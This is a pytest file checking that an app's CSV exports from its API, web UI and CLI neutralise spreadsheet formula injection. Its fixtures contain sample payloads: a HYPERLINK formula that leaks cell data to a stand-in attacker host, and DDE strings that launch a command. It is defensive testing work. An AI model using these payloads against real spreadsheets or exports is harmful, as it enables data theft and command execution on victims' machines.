"""Issue 13, CSV formula injection: a file named like a formula, and result values that start
with ``= + - @`` (or a tab or carriage return), must not reach a spreadsheet as formulas from any
CSV export (API, the web UI's one-item CSV, the CLI); numbers stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from conveyor.api.app import create_app
from conveyor.auth.service import create_token
from conveyor.cli.app import app as cli_app
from conveyor.results.formulas import spreadsheet_safe

FORMULA_NAME = "=cmd|calc!A1+HYPERLINK(1).csv"
RECORD = {
    "formula": '=HYPERLINK("http://attacker.example/?leak="&A1)',
    "plus": "+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "dash": "-2+3+cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage": "\r=1+1",
    "negative": -1.5,
    "negative_text": "-2",
    "exponent_text": "+3.5e-4",
    "inner": "a=b",
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+x", "'+x"),
        ("-x", "'-x"),
        ("@x", "'@x"),
        ("\t=x", "'\t=x"),
        ("\r=x", "'\r=x"),
        ("-1.5", "-1.5"),
        ("-1+2", "'-1+2"),
        (-1.5, -1.5),
        (-3, -3),
        (None, None),
        ("", ""),
        ("plain", "plain"),
    ],
)
def test_spreadsheet_safe(value: object, expected: object) -> None:
    assert spreadsheet_safe(value) == expected


@pytest.fixture
def client(installation) -> TestClient:  # type: ignore[no-untyped-def]
    with installation.sessions.begin() as session:
        token = create_token(session, "look", "viewer")
        operator = create_token(session, "ops", "operator")
    client = TestClient(create_app(installation, auth_required=True))
    client.headers["Authorization"] = f"Bearer {operator}"
    upload = {"file": (FORMULA_NAME, b"name,score\n=1+2,-1.5\n@SUM(A1),3\n", "text/csv")}
    assert client.post("/api/v1/items", files=upload, data={"pipeline": "csv_profile"}).is_success
    record = client.post("/api/v1/items", json={"pipeline": "noop", "record": RECORD})
    assert record.is_success
    installation.controller().run_until_idle(timeout=120)
    client.headers["Authorization"] = f"Bearer {token}"  # exports are open to viewers
    client.record_item = record.json()["item_id"]  # type: ignore[attr-defined]
    return client


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _live_formulas(rows: list[dict[str, str]]) -> list[str]:
    """Cells a spreadsheet would evaluate."""
    cells = [cell for row in rows for cell in row.values() if cell]
    return [c for c in cells if c.startswith(FORMULA_START) and spreadsheet_safe(c) != c]


def _assert_neutralised(rows: list[dict[str, str]]) -> None:
    assert rows and _live_formulas(rows) == []
    by_pipeline = {row["pipeline"]: row for row in rows}
    if "csv_profile" in by_pipeline:
        assert by_pipeline["csv_profile"]["input"] == "'" + FORMULA_NAME
    if "noop" in by_pipeline:
        noop = by_pipeline["noop"]
        assert noop["result.formula"] == "'" + RECORD["formula"]
        assert noop["result.tab"] == "'\t=1+1" and noop["result.carriage"] == "'\r=1+1"
        assert noop["result.negative"] == "-1.5" and noop["result.negative_text"] == "-2"
        assert noop["result.exponent_text"] == "+3.5e-4" and noop["result.inner"] == "a=b"


def test_csv_exports_neutralise_formulas(
    client: TestClient, installation, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:  # type: ignore[no-untyped-def]
    """The API, the web UI's one-item CSV and the CLI; JSON keeps the values as sent."""
    for pipeline in ("csv_profile", "noop"):
        exported = client.get("/api/v1/results", params={"pipeline": pipeline, "format": "csv"})
        assert exported.status_code == 200
        _assert_neutralised(_rows(exported.text))
    one = client.get(f"/items/{client.record_item}/result.csv")  # type: ignore[attr-defined]
    assert one.status_code == 200
    _assert_neutralised(_rows(one.text))
    assert client.get("/api/v1/results", params={"pipeline": "noop"}).json()[0]["result"] == RECORD

    monkeypatch.setenv("CONVEYOR_DATABASE_URL", installation.settings.resolved_database_url)
    for pipeline in ("csv_profile", "noop"):
        target = tmp_path / f"{pipeline}.csv"
        _cli_export(installation.settings.home, pipeline, target)
        with target.open(newline="") as exported_file:
            _assert_neutralised(_rows(exported_file.read()))


def _cli_export(home: Path, pipeline: str, target: Path) -> None:
    arguments = ["--home", str(home), "results", "-p", pipeline, "-f", "csv", "-o", str(target)]
    done = CliRunner().invoke(cli_app, arguments, catch_exceptions=False)
    assert done.exit_code == 0, done.output
